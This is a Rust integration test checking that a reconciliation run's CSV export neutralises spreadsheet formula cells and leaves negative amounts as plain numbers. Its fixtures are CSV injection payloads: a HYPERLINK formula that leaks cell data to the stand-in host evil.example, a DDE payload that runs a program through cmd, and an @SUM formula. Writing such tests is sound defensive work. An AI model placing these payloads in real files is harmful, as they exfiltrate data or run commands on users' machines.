//! The CSV export of a run neutralises cells a spreadsheet would evaluate (OWASP CSV injection),
//! and leaves amounts numbers.

use chrono::Utc;
use http::StatusCode;
use serde_json::json;

use crate::helpers::TestApp;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Refund\")";

#[tokio::test]
async fn formula_cells_in_a_run_export_are_neutralised() {
    let app = TestApp::spawn().await;
    app.create_account("bank", "USD", "unlimited").await;
    let today = Utc::now().date_naive().to_string();
    let import = json!({
        "accountId": "bank",
        "lines": [
            {"id": FORMULA, "bookedDate": today, "amount": "-12.50", "currency": "USD",
             "description": FORMULA, "reference": "@SUM(A1:A9)"},
            {"id": "+cmd|' /C calc'!A0", "bookedDate": today, "amount": "7.00", "currency": "USD",
             "description": "-2+3"}
        ]
    });
    app.api
        .post("/api/v1/statements", &import)
        .await
        .assert_status(StatusCode::CREATED);
    let res = app
        .api
        .post(
            "/api/v1/accounts/bank/reconcile",
            &json!({"startDate": today, "endDate": today}),
        )
        .await;
    let run_id = res.assert_status(StatusCode::CREATED)["runId"]
        .as_str()
        .unwrap()
        .to_string();

    let res = app
        .api
        .get(&format!("/api/v1/reconciliations/{run_id}?format=csv"))
        .await;
    assert_eq!(res.status, StatusCode::OK);
    let text = &res.text;
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 2, "{text}");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "cell {cell:?} would be evaluated by a spreadsheet:\n{text}"
            );
        }
    }
    let external_ids: Vec<&str> = rows.iter().map(|r| &r[col("external_id")]).collect();
    assert!(
        external_ids.contains(&format!("'{FORMULA}").as_str()),
        "{text}"
    );
    assert!(external_ids.contains(&"'+cmd|' /C calc'!A0"), "{text}");
    // A negative amount is a number, not a formula: it stays as it is.
    let amounts: Vec<&str> = rows.iter().map(|r| &r[col("amount")]).collect();
    assert!(amounts.contains(&"-12.50"), "{text}");
    assert!(amounts.contains(&"7.00"), "{text}");
}
